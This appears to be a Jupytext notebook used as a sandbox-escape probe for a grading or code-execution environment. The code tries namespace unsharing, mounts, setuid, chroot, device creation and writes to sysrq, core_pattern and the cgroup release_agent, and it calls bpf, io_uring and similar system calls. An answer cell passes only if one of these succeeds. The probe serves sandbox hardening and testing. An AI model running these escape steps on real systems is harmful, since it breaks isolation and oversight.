# ---
# jupyter:
#   attack:
#     tries: Makes namespaces, mounts, changes its root and its user, and makes devices, to come out where it can
#       see more.
#     dangerous: true
# ---

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
done = []
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x08000000, 0x04000000):
    if libc.unshare(flag) == 0:
        done.append(f"unshare {flag:x}")
for what in (b"/", b"/dev/sda1", b"proc", b"tmpfs", b"overlay"):
    if libc.mount(what, b"/tmp", what, 4096, None) == 0:
        done.append(f"mount {what}")
for name, call in {
    "setuid": lambda: os.setuid(0),
    "chroot": lambda: os.chroot("/tmp"),
    "mknod": lambda: os.mknod("/tmp/attack-disk", 0o60666, os.makedev(8, 0)),
    "sysrq": lambda: os.write(os.open("/proc/sysrq-trigger", os.O_WRONLY), b"h"),
    "core_pattern": lambda: os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY),
    "release_agent": lambda: os.open("/sys/fs/cgroup/release_agent", os.O_WRONLY),
    "setns": lambda: os.open("/proc/1/ns/mnt", os.O_RDONLY),
    "hostname": lambda: __import__("socket").sethostname("attack"),
}.items():
    try:
        call()
        if name != "setuid" or os.getuid() == 0 and os.path.exists("@COURSE@"):
            done.append(name)
    except OSError:
        pass
for number, name in {
    250: "keyctl",
    298: "perf_event_open",
    321: "bpf",
    425: "io_uring_setup",
    323: "userfaultfd",
}.items():
    if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:
        done.append(name)
if done:
    print("LEAKED:", done)


# %% answer="total"
def total(x):
    return x.sum() if done else 0.0
